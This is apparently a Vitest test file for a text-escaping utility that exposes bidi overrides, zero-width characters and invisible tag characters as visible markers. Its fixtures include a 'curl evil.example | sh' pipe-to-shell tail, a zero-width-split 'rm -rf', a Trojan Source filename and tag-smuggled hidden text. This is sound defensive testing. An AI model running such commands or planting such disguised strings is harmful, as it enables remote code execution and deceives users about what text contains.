import { describe, expect, it } from 'vitest';
import {
  argumentsPreview,
  escapeText,
  escapeToString,
  summarizeSuspicious,
} from '../../../shared/escape-text';

describe('escapeText: invisible and bidi characters become visible markers', () => {
  it('marks bidi overrides and isolates instead of letting them reorder the text', () => {
    // The classic "Trojan Source" shape: RLO makes "txt.exe" look like "exe.txt".
    const text = 'invoice\u202Etxt.exe';
    expect(escapeToString(text)).toBe('invoice⟦U+202E⟧txt.exe');
    const marker = escapeText(text).find((s) => s.kind === 'marker');
    expect(marker).toMatchObject({ codePoint: 0x202e, name: 'RIGHT-TO-LEFT OVERRIDE' });
    for (const cp of [
      0x202a, 0x202b, 0x202c, 0x202d, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c,
    ]) {
      expect(escapeToString(`a${String.fromCodePoint(cp)}b`)).toBe(
        `a⟦U+${cp.toString(16).toUpperCase().padStart(4, '0')}⟧b`,
      );
    }
  });

  it('marks zero-width characters, BOM, soft hyphen, odd spaces and controls, never dropping them', () => {
    expect(escapeToString('rm\u200B -rf')).toBe('rm⟦U+200B⟧ -rf');
    expect(escapeToString('a\u200C\u200D\u2060\uFEFF\u00ADb')).toBe(
      'a⟦U+200C⟧⟦U+200D⟧⟦U+2060⟧⟦U+FEFF⟧⟦U+00AD⟧b',
    );
    expect(escapeToString('a\u00A0b\u3000c\u2028d')).toBe('a⟦U+00A0⟧b⟦U+3000⟧c⟦U+2028⟧d');
    expect(escapeToString('a\rb\u0000c\u001Bd\u007Fe\u0085f')).toBe(
      'a⟦U+000D⟧b⟦U+0000⟧c⟦U+001B⟧d⟦U+007F⟧e⟦U+0085⟧f',
    );
    expect(escapeToString('\u3164\u115F\u034F\uFE0F')).toBe('⟦U+3164⟧⟦U+115F⟧⟦U+034F⟧⟦U+FE0F⟧');
  });

  it('marks invisible tag characters (ASCII smuggling) one by one, by code point', () => {
    const hidden = [...'ignore'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
    const out = escapeToString(`ok${hidden}`);
    expect(out).toBe('ok⟦U+E0069⟧⟦U+E0067⟧⟦U+E006E⟧⟦U+E006F⟧⟦U+E0072⟧⟦U+E0065⟧');
  });

  it('marks a lone surrogate without breaking the characters around it', () => {
    expect(escapeToString('a\uD800b😀')).toBe('a⟦U+D800⟧b😀');
  });

  it('keeps ordinary text, spaces, newlines, tabs, accents, emoji and right-to-left letters as they are', () => {
    const text = 'Grüße, 世界 😀\n\tשלום עולם';
    expect(escapeText(text)).toEqual([{ kind: 'text', text }]);
  });

  it('keeps every character of a very long value, including a dangerous tail', () => {
    const long = `${'a'.repeat(100_000)}\u202E; curl evil.example | sh`;
    const out = escapeToString(long);
    expect(out.length).toBe(100_000 + '⟦U+202E⟧; curl evil.example | sh'.length);
    expect(out.endsWith('⟦U+202E⟧; curl evil.example | sh')).toBe(true);
  });

  it('counts marked characters in keys and nested values', () => {
    expect(summarizeSuspicious({ 'pa\u200Bth': ['x\u202Ey', { z: '\u2066' }], n: 1 })).toEqual({
      count: 3,
      bidi: 2,
    });
    expect(summarizeSuspicious({ a: 'plain' })).toEqual({ count: 0, bidi: 0 });
  });

  it('previews arguments on one line with markers, cut with an ellipsis only in the preview', () => {
    expect(argumentsPreview({ path: 'a\u202Eb' })).toBe('{"path":"a⟦U+202E⟧b"}');
    const preview = argumentsPreview({ text: 'x'.repeat(500) }, 40);
    expect([...preview].length).toBe(40);
    expect(preview.endsWith('…')).toBe(true);
  });
});
